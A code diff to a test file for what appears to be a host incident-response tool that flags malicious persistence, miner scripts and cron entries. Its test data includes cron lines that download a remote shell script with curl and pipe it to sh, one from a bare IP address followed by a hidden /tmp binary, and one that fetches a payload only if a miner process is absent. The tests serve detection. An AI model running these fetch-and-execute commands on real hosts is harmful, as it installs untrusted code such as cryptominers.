@@ -162,7 +162,9 @@ it('one line added to a shop’s start script: neither script, shell nor shop is
   const script = linksOf(snapshot).files.find((f) => f.path === '/srv/shop/start.sh');
   expect(script).toMatchObject({ linked: true, selected: false });
   expect(script?.lines).toContain(4);
-  expect(linksOf(snapshot).persistence).toEqual([]);
+  expect(linksOf(snapshot).persistence).toMatchObject([
+    { path: '/etc/systemd/system/shop.service', linked: true, selected: false },
+  ]);
 });
 
 it('a miner script under a copy of the shop’s own interpreter: the script is ticked, neither interpreter is', () => {
@@ -202,6 +204,12 @@ describe('cron', () => {
     expect(line('* * * * * curl -fsSL https://deploy.corp.example/sync.sh | sh')).toMatchObject([
       { selected: false },
     ]);
+  });
+  it('one that starts what is not there, beside what it fetches, starts nothing else; what is there counts', () => {
+    const text = '* * * * * curl -fsSL http://203.0.113.20/i.sh | sh; /tmp/.gone/x';
+    expect(line(text)).toMatchObject([{ selected: true }]);
+    const there = host({}, { cronFiles: lines(text), files: [elf('/tmp/.gone/x')] });
+    expect(linksOf(there).cronLines).toMatchObject([{ selected: false }]);
   });
   it('one that asks for the miner first is linked by that; a name that others bear links nothing', () => {
     const asks = '* * * * * pgrep -f m4x >/dev/null || curl -fsSL https://cdn.example/x | sh';
